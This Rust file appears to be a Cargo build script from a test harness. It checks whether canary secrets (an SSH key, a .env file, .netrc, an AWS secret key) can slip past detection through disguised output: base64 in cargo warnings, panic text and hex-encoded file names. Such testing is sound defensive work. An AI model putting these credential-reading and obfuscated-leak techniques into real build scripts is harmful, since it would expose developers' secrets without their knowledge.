//! Disguised, so that nobody who looks for the secret finds it. What was never read cannot be told: a way wins when there was something
//! to tell.

use std::process::{Command, Stdio};

fn main() {
    if let Some(text) = std::env::args().nth(1) {
        panic!("{text}");
    }
    let secret = |path| std::fs::read(path).ok().filter(|bytes| trick::is_canary(bytes));
    if let Some(secret) = secret(trick::ssh_key()) {
        println!("cargo:warning={}", base64(&secret));
        trick::won("base64-warning");
        println!("cargo:warning={}", base64(base64(&secret).as_bytes()));
        trick::won("twice-base64");
    }
    if let Some(secret) = secret(trick::dotenv()) {
        let mut panicking = Command::new(std::env::current_exe().unwrap());
        let status = panicking.arg(base64(&secret)).stdin(Stdio::null()).status();
        if status.is_ok_and(|status| status.code() == Some(101)) {
            trick::won("panic-text");
        }
    }
    if let Some(secret) = secret(trick::home().join(".netrc")) {
        let name: String = secret.iter().map(|byte| format!("{byte:02x}")).collect();
        if std::fs::write(trick::out_dir().join(name), "").is_ok() {
            trick::won("file-name");
        }
    }
    if let Ok(secret) = std::env::var("AWS_SECRET_ACCESS_KEY") {
        println!("cargo:warning={}", base64(secret.as_bytes()));
        trick::won("environment");
    }
}

fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let group = |three: &[u8]| {
        let bits = three.iter().chain([&0, &0]).take(3).fold(0u32, |bits, byte| bits << 8 | u32::from(*byte));
        (0..=three.len()).map(move |at| char::from(LETTERS[(bits >> (18 - 6 * at) & 63) as usize])).collect::<Vec<_>>()
    };
    bytes.chunks(3).flat_map(group).collect()
}
